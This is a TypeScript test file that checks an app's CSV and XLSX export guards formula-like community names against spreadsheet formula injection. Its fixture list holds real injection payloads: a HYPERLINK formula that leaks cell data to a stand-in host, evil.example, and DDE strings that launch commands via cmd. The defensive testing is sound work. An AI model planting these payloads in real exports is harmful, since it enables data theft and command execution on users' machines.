// CSV/XLSX formula injection (issue 6): names and comments that a spreadsheet would run as a
// formula are exported as text, and exports re-import unchanged.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { afterEach, expect, it } from 'vitest';
import { csvLine } from '@manyi/scoring/csv';
import { exportRegions } from '../src/exportTables.ts';
import { guardFormula, unguardFormula } from '../src/formulaGuard.ts';
import { importRegions } from '../src/importRegions.ts';
import { openStore, type Store } from '../src/Store.ts';
import { readTableFile } from '../src/tableFile.ts';
import { regionTable, tempDir, testRegion } from './importFixture.ts';

/** Cells that Excel or WPS would evaluate, as community names and comments might carry them. */
const formulas = [
  '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
  "=cmd|' /C calc'!A0",
  '+SUM(1,2)',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  "'=1+1", // already an apostrophe: must come back as written
];

let store: Store | undefined;
afterEach(async () => {
  await store?.close();
  store = undefined;
});

it('puts an apostrophe before formula-like cells, leaves numbers and text alone, and undoes it', () => {
  expect(guardFormula('=1+1')).toBe("'=1+1");
  expect(guardFormula('@now')).toBe("'@now");
  expect(guardFormula('\t=1')).toBe("'\t=1");
  expect(guardFormula("'=1")).toBe("''=1");
  for (const kept of ['-2.5', '+3', '-1e3', '.5', '幸福社区', "it's", "'", '', '0101'])
    expect(guardFormula(kept)).toBe(kept);
  for (const text of [...formulas, '-2.5', "'", "''", "'-", '-', '=', 'a=b'])
    expect(unguardFormula(guardFormula(text))).toBe(text);
  expect(csvLine(['C1', '=1+1', -2, '@x,y'])).toBe(`C1,'=1+1,-2,"'@x,y"`);
});

it('exports formula-like community names as text in CSV and XLSX, and reads them back unchanged', async () => {
  const dir = tempDir();
  store = await openStore({ path: join(dir, 'db.duckdb') });
  // one community per formula, its grid named by the next one
  const rows = formulas.map((name, i) => ({
    ...testRegion[0]!,
    street_name: formulas[2]!,
    community_code: `0101${10 + i}`,
    community_name: name,
    grid_code: `0101${10 + i}01`,
    grid_name: formulas[(i + 1) % formulas.length]!,
  }));
  await importRegions(store, { ...regionTable(rows), rowNumbers: rows.map((_, i) => i + 2) });
  const stored = rows.map((r) => r.community_name.trim()); // the import trims names

  const csvPath = join(dir, 'regions.csv');
  await exportRegions(store, csvPath);
  const csvText = readFileSync(csvPath, 'utf8');
  const csvCells = (parse(csvText, { bom: true }) as string[][]).flat();
  expect(csvCells).toHaveLength((rows.length + 1) * 11);
  // no cell of the file starts a formula: each formula-like cell is guarded (quoted if it must be)
  expect(csvCells.filter((cell) => /^[=+\-@\t]/.test(cell))).toEqual([]);
  expect(csvText).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1`);
  expect(csvText).toContain("''=1+1");
  expect((await readTableFile(csvPath)).rows.map((r) => r[6])).toEqual(stored);

  const xlsxPath = join(dir, 'regions.xlsx');
  await exportRegions(store, xlsxPath);
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.readFile(xlsxPath);
  const cells: ExcelJS.Cell[] = [];
  workbook.worksheets[0]!.eachRow((row) => row.eachCell((cell) => cells.push(cell)));
  expect(cells.length).toBeGreaterThan(rows.length * 10);
  // every cell is a string or a number: none is a formula Excel would calculate
  expect(cells.filter((cell) => cell.type === ExcelJS.ValueType.Formula)).toEqual([]);
  const names = (await readTableFile(xlsxPath)).rows.map((r) => r[6]);
  expect(names).toEqual(stored);
});
